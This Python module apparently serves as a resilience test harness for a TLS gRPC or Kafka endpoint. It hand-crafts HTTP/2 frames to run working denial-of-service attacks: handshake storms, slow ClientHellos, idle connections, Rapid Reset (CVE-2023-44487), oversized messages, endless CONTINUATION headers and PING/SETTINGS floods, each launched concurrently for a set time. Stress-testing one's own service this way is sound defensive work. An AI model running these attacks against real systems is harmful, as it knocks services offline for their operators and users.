"""What a stranger or a member does to a door by TLS to have it answer nobody else: each attack until its end is asked
for.

Bytes of HTTP/2 are written here by hand (RFC 9113, RFC 7541): a library would not send what these send.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import ssl
import struct
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL: Final = struct.pack(">I", 8)
AT_ONCE: Final = 50
"""Connections that an attacker works on at the same time; there are more that only stay."""
IDLE: Final = 1_000
BURST: Final = 100
GIANT: Final = 2**31 - 1
SLOW_S: Final = 0.2


@dataclass(frozen=True, kw_only=True)
class Door:
    """An address, the files of one who has a certificate, and a path that is served there."""

    host: str
    port: int
    keystore: Path
    truststore: Path
    path: str
    speaks_kafka: bool = False

    @cached_property
    def member(self) -> ssl.SSLContext:
        """The TLS of one who has a certificate."""
        context = self.stranger_context()
        context.load_cert_chain(self.keystore)
        return context

    @cached_property
    def stranger(self) -> ssl.SSLContext:
        """Of one who has none."""
        return self.stranger_context()

    def stranger_context(self) -> ssl.SSLContext:
        """A new one."""
        context = ssl.create_default_context(cafile=str(self.truststore))
        if not self.speaks_kafka:
            context.set_alpn_protocols(["h2"])
            context.minimum_version = ssl.TLSVersion.TLSv1_3
        return context


def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A literal header without indexing, as HPACK has it; both texts are short."""
    assert max(len(name), len(value)) < 127, (name, value)
    return bytes((0, len(name))) + name + bytes((len(value),)) + value


def request_headers(path: str) -> bytes:
    """The header block of a gRPC call."""
    return b"".join(
        literal(name, value)
        for name, value in (
            (b":method", b"POST"), (b":scheme", b"https"), (b":path", path.encode()), (b":authority", b"localhost"),
            (b"te", b"trailers"), (b"content-type", b"application/grpc"),
        )
    )  # fmt: skip


Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def _connect(door: Door, tls: ssl.SSLContext | None) -> Streams:
    return await asyncio.open_connection(
        door.host,
        door.port,
        ssl=tls,
        server_hostname="localhost" if tls else None,
        ssl_handshake_timeout=30 if tls else None,
    )


async def _speaks(door: Door) -> Streams:
    """A connection of a member that has begun to speak HTTP/2, and reads all that it is sent."""
    reader, writer = await _connect(door, door.member)
    if not door.speaks_kafka:
        writer.write(PREFACE + http2_frame(SETTINGS, 0, 0))
    return reader, writer


async def _drained(streams: Streams, sending: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> None:
    reader, writer = streams
    with contextlib.suppress(OSError, ssl.SSLError, EOFError, TimeoutError):
        async with asyncio.TaskGroup() as tasks:
            reading = tasks.create_task(_read_all(reader))
            try:
                await sending(writer)
            finally:
                reading.cancel()
    writer.transport.abort()


async def _read_all(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError, ssl.SSLError):
        while await reader.read(1 << 16):
            pass


async def storm(door: Door) -> None:
    """Whole handshakes, one after the other, by members and strangers; each connection is dropped at once."""
    for tls in (door.member, door.stranger):
        _, writer = await _connect(door, tls)
        writer.transport.abort()


async def slow_handshake(door: Door) -> None:
    """The beginning of a ClientHello, a byte at a time, for as long as the server waits."""
    reader, writer = await _connect(door, None)
    for each in b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500):
        writer.write(bytes((each,)))
        await writer.drain()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(SLOW_S):
                if not await reader.read(1):
                    break
    writer.transport.abort()


async def rapid_reset(door: Door) -> None:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487); at Kafka's wire, requests and then gone."""
    headers = request_headers(door.path)

    async def sending(writer: asyncio.StreamWriter) -> None:
        if door.speaks_kafka:
            for _ in range(BURST):
                writer.write(struct.pack(">IhhiH", 10, 18, 0, 1, 0xFFFF))
            await writer.drain()
            return
        for first in range(1, 200 * BURST, 2 * BURST):
            for stream in range(first, first + 2 * BURST, 2):
                writer.write(
                    http2_frame(HEADERS, END_HEADERS, stream, headers) + http2_frame(RST_STREAM, 0, stream, CANCEL)
                )
            await writer.drain()
            await asyncio.sleep(0)

    await _drained(await _speaks(door), sending)


async def giant(door: Door) -> None:
    """Messages that are said to have 2 GiB, of which some bytes come; metadata without an end."""
    headers = request_headers(door.path)
    announced = struct.pack(">BI", 0, GIANT) + bytes(1_000)

    async def sending(writer: asyncio.StreamWriter) -> None:
        if door.speaks_kafka:
            writer.write(struct.pack(">I", GIANT) + bytes(1_000))
            await writer.drain()
            await asyncio.sleep(SLOW_S)
            return
        for stream in range(1, 2 * BURST, 2):
            writer.write(http2_frame(HEADERS, END_HEADERS, stream, headers) + http2_frame(DATA, 0, stream, announced))
        await writer.drain()
        writer.write(http2_frame(HEADERS, 0, 2 * BURST + 1, headers))
        for number in range(BURST):
            block = b"".join(literal(b"x%d-%d" % (number, each), bytes(100)) for each in range(100))
            writer.write(http2_frame(CONTINUATION, 0, 2 * BURST + 1, block))
            await writer.drain()

    await _drained(await _speaks(door), sending)


async def pings(door: Door) -> None:
    """PING and SETTINGS that have to be answered, faster than they are read."""

    async def sending(writer: asyncio.StreamWriter) -> None:
        for _ in range(BURST):
            writer.write((http2_frame(PING, 0, 0, bytes(8)) + http2_frame(SETTINGS, 0, 0)) * BURST)
            await writer.drain()

    await _drained(await _speaks(door), sending)


async def idle(door: Door) -> None:
    """A connection that says nothing until the server ends it."""
    reader, writer = await _connect(door, None)
    await _read_all(reader)
    writer.transport.abort()


ATTACKS: Final[Mapping[str, tuple[Callable[[Door], Awaitable[None]], int]]] = {
    "connection storm": (storm, AT_ONCE),
    "connections that say nothing": (idle, IDLE),
    "slow handshakes": (slow_handshake, IDLE),
    "rapid resets": (rapid_reset, AT_ONCE),
    "announced giants": (giant, AT_ONCE),
    "pings": (pings, AT_ONCE),
}
"""Each with how many do it at the same time."""


async def attack(door: Door, name: str, *, seconds: float) -> int:
    """Goes on for so long; returns how often it was done to its end."""
    one, at_once = ATTACKS[name]
    done = 0

    async def again() -> None:
        nonlocal done
        while True:
            try:
                await one(door)
                done += 1
            except (OSError, ssl.SSLError, EOFError, TimeoutError):
                await asyncio.sleep(0.01)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as tasks:
            for _ in range(at_once):
                tasks.create_task(again())
    return done


def attack_alone(door: Door, name: str, seconds: float) -> int:
    """The same in a process of its own, whose event loop is nobody else's."""
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # it says of each connection that it is gone
    return asyncio.run(attack(door, name, seconds=seconds))
